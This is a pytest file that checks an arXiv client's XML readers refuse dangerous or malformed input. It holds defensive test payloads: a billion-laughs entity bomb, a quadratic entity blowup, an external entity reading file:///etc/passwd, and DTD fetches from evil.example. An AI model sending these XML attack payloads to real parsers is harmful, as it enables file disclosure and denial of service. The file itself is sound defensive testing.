"""XML from others: read where it is whole, refused where it is anything else."""

from __future__ import annotations

import gzip
from collections.abc import Callable

import pytest

from retrieval.errors import SourceError
from retrieval.sources.arxiv import api, feed
from retrieval.sources.arxiv.xml_answer import child_text, parse_xml

READERS: tuple[Callable[[bytes], object], ...] = (api.read_page, feed.read)

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<feed><title>&lol3;</title></feed>"""
QUADRATIC = (
    b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 50_000 + b'">]><feed>' + b"&b;" * 1_000 + b"</feed>"
)
FOREIGN = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed><title>&x;</title></feed>'
ELSEWHERE = b'<!DOCTYPE feed SYSTEM "https://evil.example/a.dtd"><feed/>'
PARAMETER = b'<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/a.dtd"> %p;]><feed/>'


@pytest.mark.parametrize("read", READERS)
@pytest.mark.parametrize("data", [LAUGHS, QUADRATIC, FOREIGN, ELSEWHERE, PARAMETER])
def test_document_types_and_entities_are_refused(read: Callable[[bytes], object], data: bytes):
    """Before anything is expanded or fetched."""
    with pytest.raises(SourceError, match="document type or entities"):
        read(data)


@pytest.mark.parametrize("read", READERS)
@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "sent nothing"),
        (b" \r\n\xef\xbb\xbf", "sent nothing"),
        (b"<!DOCTYPE html><html><body>Sorry</body></html>", "a web page"),
        (b"\n<HTML><p>429", "a web page"),
        (b'<?xml version="1.0"?><feed><entry><id>http', "cut off or damaged"),
        (b"<feed><a></b></feed>", "cut off or damaged"),
        (b"<feed/>trailing", "cut off or damaged"),
        (b'<?xml version="1.0" encoding="UTF-8"?><feed>\xe9t\xe9</feed>', "cut off or damaged"),
        (b'<?xml version="1.0" encoding="klingon"?><feed/>', "cut off or damaged"),
        (b"<feed>\x00</feed>", "cut off or damaged"),
        (b"<feed>&nbsp;</feed>", "cut off or damaged"),
        (b'{"error": "not found"}', "cut off or damaged"),
        (b"Rate exceeded.", "cut off or damaged"),
        (gzip.compress(b"<feed/>", mtime=0), "cut off or damaged"),
        (b"<something/>", "XML that is n"),
    ],
)
def test_what_is_no_answer_is_refused(read: Callable[[bytes], object], data: bytes, why: str):
    """And the message says who sent what."""
    with pytest.raises(SourceError, match=rf"^arXiv's .+ {why}"):
        read(data)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "latin-1"])
def test_an_encoding_that_is_declared_is_read(encoding: str):
    """Or known by its first bytes."""
    said = encoding.removesuffix("-sig")
    data = f'<?xml version="1.0" encoding="{said}"?><a><b>Gödel &amp;  Erdös\n</b></a>'

    assert child_text(parse_xml(data.encode(encoding), "A test"), "b") == "Gödel & Erdös"


def test_a_deep_tree_does_no_harm():
    """Its texts are read without recursion that has no end."""
    deep = b"<feed>" + b"<a>" * 20_000 + b"x" + b"</a>" * 20_000 + b"</feed>"

    with pytest.raises(SourceError):
        api.read_page(deep)
